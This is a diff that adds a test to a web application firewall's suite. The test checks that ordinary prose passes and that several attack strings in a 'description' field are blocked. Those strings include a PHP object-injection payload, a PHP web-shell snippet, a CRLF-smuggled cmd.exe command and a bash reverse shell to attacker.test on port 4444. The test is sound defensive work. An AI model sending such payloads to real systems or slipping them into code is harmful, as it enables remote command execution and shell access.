@@ -165,4 +165,13 @@ describe('waf: path parameters and schema-aware inspection', () => {
     assert.equal(await status(gw, 'POST', '/aware/items', { scores: { 0: '1 select' } }), 403)
     assert.equal(await status(gw, 'POST', '/aware/items', { weights: ['1 select'] }), 403)
   })
+
+  test('with the built-in profile, free text is read by every rule that blocks without the document', async () => {
+    const prose = 'I ran the export twice; select all rows, then delete the duplicates -- thanks!'
+    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', description: prose }), 200)
+    for (const attack of ['O:8:"stdClass":1:{s:4:"_fn_";s:6:"system";}', "<?php $e=$_REQUEST['c'];@assert($e); ?>", 'x\r\n cmd.exe /c whoami', ";bash -c 'bash -i >& /dev/tcp/attacker.test/4444 0>&1'"]) {
+      assert.equal(await status(gw, 'POST', '/raw/items', { title: 'Chair', description: attack }), 403, attack)
+      assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', description: attack }), 403, attack)
+    }
+  })
 })
